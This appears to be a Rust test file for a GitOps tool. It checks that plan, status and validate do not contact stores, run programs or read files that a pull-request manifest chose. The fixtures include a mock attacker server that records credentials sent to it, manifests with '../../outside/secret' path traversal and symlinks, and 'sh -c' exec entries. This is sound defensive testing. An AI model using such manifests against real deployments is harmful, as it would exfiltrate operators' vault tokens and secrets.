//! What a pull request can have `plan`, `status` and `validate` do: nothing that only its author chose.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use crate::support::{Run, World, run};

const SECRET: &str = "VAULTCANARY0123456789abcdef";
const FILE_SECRET: &str = "FILECANARY-single-line-secret";

/// A server of the author that hears what it is sent.
struct Attacker {
    url: String,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Attacker {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let heard: Arc<Mutex<Vec<String>>> = Arc::default();
        let ear = Arc::clone(&heard);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().map_while(Result::ok) {
                let mut bytes = [0; 4096];
                let count = stream.read(&mut bytes).unwrap_or(0);
                let said = String::from_utf8_lossy(&bytes[..count]).into_owned();
                ear.lock().unwrap().push(said);
                let _ = stream.write_all(b"HTTP/1.1 403 X\r\ncontent-length: 2\r\n\r\n{}");
            }
        });
        Self { url, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }
}

fn token(deliver: &str) -> String {
    format!(
        "apiVersion: flespi-gitops/v1\nkind: Token\nmetadata: {{name: t}}\n\
         spec:\n  ttl: 30d\n  access: standard\n  deliver: [{deliver}]\n"
    )
}

fn account(password: &str) -> String {
    format!(
        "apiVersion: flespi-gitops/v1\nkind: Subaccount\nmetadata: {{name: s}}\n\
         spec: {{credentials: {{email: a@b.example, password: {password}}}}}\n"
    )
}

/// A folder of manifests, and secrets outside of it.
fn repository(manifest: &str) -> World {
    let world = World::new();
    world.write("repo/m/a.yaml", manifest);
    world.write("outside/secret", &format!("{FILE_SECRET}\n"));
    world.write("outside/token", &format!("{}\n", world.token()));
    world.keep_secret(SECRET);
    world.keep_secret(FILE_SECRET);
    world
}

fn run_in(world: &World, arguments: &[&str]) -> Run {
    let mut command = world.command(arguments);
    command.current_dir(world.path().join("repo")).env("VAULT_TOKEN", SECRET);
    run(command)
}

#[test]
fn no_store_is_contacted_and_no_credential_used_that_only_a_manifest_chose() {
    let attacker = Attacker::new();
    let url = &attacker.url;
    for manifest in [
        token(&format!("{{vault: a/b, key: k, address: '{url}'}}")),
        token(&format!(
            "{{vault: a/b, key: k, address: '{url}', token_file: ../../outside/secret}}"
        )),
        token(&format!(
            "{{vault: a/b, key: k, address: '{url}', token_file: ../../outside/token}}"
        )),
        token(&format!("{{vault: a/b, key: k, address: '{url}', ca_file: ../../outside/secret}}")),
        token(&format!(
            "{{kubernetes: s, key: k, server: '{url}', token_file: ../../outside/token}}"
        )),
        token(&format!("{{kubernetes: s, key: k, server: '{url}', token_file: link}}")),
        account(&format!(
            "{{generate: {{length: 32}}, deliver: [{{vault: a, key: k, address: '{url}'}}]}}"
        )),
    ] {
        let world = repository(&manifest);
        #[cfg(unix)]
        std::os::unix::fs::symlink(
            world.path().join("outside/secret"),
            world.path().join("repo/m/link"),
        )
        .unwrap();
        for command in ["plan", "status", "validate"] {
            let run = run_in(&world, &[command, "m"]).expect(0);
            assert_eq!(attacker.heard(), [""; 0], "{command}: {manifest}");
            let is_said = command == "validate" || run.stdout.contains("checked only by apply");
            let is_new_password = manifest.contains("generate");
            assert!(is_said || is_new_password, "{command}: {}", run.stdout);
        }
        run_in(&world, &["export"]).expect(0);
        assert_eq!(attacker.heard(), [""; 0], "export: {manifest}");
    }
}

#[cfg(unix)]
#[test]
fn no_program_is_run_to_ask_a_sink_what_it_holds() {
    let world =
        repository(&token("{exec: [sh, -c, 'cat >key'], read: [sh, -c, 'touch ran; cat key']}"));
    let has_run = || world.path().join("repo/m/ran").exists();
    let only_read = || {
        for command in ["plan", "status", "validate"] {
            run_in(&world, &[command, "m"]).expect(0);
            assert!(!has_run(), "{command}");
        }
    };
    only_read();
    run_in(&world, &["apply", "m", "--yes"]).expect(0);
    assert!(has_run(), "after the delivery it is read back");
    world.keep_secret(world.read("repo/m/key").trim());
    std::fs::remove_file(world.path().join("repo/m/ran")).unwrap();
    only_read();
}

#[test]
fn an_apply_contacts_what_was_reviewed() {
    let attacker = Attacker::new();
    let manifest = token(&format!("{{vault: a/b, key: k, address: '{}'}}", attacker.url));
    let world = repository(&manifest);
    run_in(&world, &["apply", "m", "--yes"]).expect(1);
    assert!(attacker.heard().iter().any(|said| said.contains(SECRET)));
}

#[test]
fn files_outside_of_the_manifests_are_not_read_to_compare_a_secret() {
    for manifest in [
        token("{file: ../../outside/secret}"),
        token("{json: ../../outside/secret, pointer: /a}"),
        token("{dotenv: ../../outside/secret, key: A}"),
    ] {
        let world = repository(&manifest);
        let run = run_in(&world, &["plan", "m"]).expect(0);
        assert!(run.stdout.contains("outside of the folders"), "{}", run.stdout);
    }
    let world = repository(&account("{file: ../../outside/secret}"));
    run_in(&world, &["apply", "m", "--yes"]).expect(0);
    // A look would tell whether a guess in the mark is right.
    let run = run_in(&world, &["plan", "m"]).expect(0);
    assert!(run.stdout.contains("was not read"), "{}", run.stdout);
    world.write("outside/secret", "another password\n");
    let run = run_in(&world, &["plan", "m", "--detailed-exitcode"]);
    run.expect(0);
}

#[test]
fn what_was_delivered_outside_of_the_manifests_counts_as_delivered_for_a_plan() {
    let world = repository(&token("{file: ../../outside/key}"));
    run_in(&world, &["apply", "m", "--yes"]).expect(0);
    run_in(&world, &["plan", "m", "--detailed-exitcode"]).expect(0);
    std::fs::remove_file(world.path().join("outside/key")).unwrap();
    run_in(&world, &["plan", "m", "--detailed-exitcode"]).expect(0);
    // The next apply looks, and fills it again.
    let run = run_in(&world, &["apply", "m", "--yes"]).expect(0);
    assert!(run.stdout.contains("lacks its key"), "{}", run.stdout);
    world.write("repo/m/a.yaml", &token("{file: ../../outside/key}, {file: ../../outside/other}"));
    run_in(&world, &["plan", "m", "--detailed-exitcode"]).expect(2);
}

#[test]
fn a_store_that_the_operator_names_is_looked_at_and_only_where_it_allows_it() {
    let attacker = Attacker::new();
    let world = repository(&token(""));
    run_in(&world, &["apply", "m", "--yes"]).expect(0);
    world.write("repo/m/a.yaml", &token("{vault: flespi/app, key: k, store: production}"));
    world.write("operator/token", "OPERATORS-OWN\n");
    world.keep_secret("OPERATORS-OWN");
    let stores = |paths: &str| {
        format!(
            "stores: {{production: {{vault: {{address: '{}', token_file: token}}, paths: [{paths}]}}}}\n",
            attacker.url
        )
    };
    world.write("operator/stores.yaml", &stores("flespi/*"));
    let with = ["plan", "m", "--stores", "../operator/stores.yaml"];
    run_in(&world, &with).expect(0);
    assert!(attacker.heard().iter().any(|said| said.contains("OPERATORS-OWN")));
    let heard = attacker.heard().len();

    world.write("operator/stores.yaml", &stores("others/*"));
    let run = run_in(&world, &with).expect(0);
    assert!(run.stdout.contains("does not let manifests use `flespi/app`"), "{}", run.stdout);
    let run = run_in(&world, &["plan", "m"]).expect(0);
    assert!(run.stdout.contains("checked only by apply"), "{}", run.stdout);
    assert_eq!(attacker.heard().len(), heard);

    world.write("operator/stores.yaml", "stores: {producton: {vault: {}, paths: ['**']}}\n");
    let run = run_in(&world, &with).expect(3);
    assert!(run.stderr.contains("did you mean `producton`?"), "{}", run.stderr);
    world.write("operator/stores.yaml", "stores: {production: {vault: {}}}\n");
    run_in(&world, &with).expect(64);
}
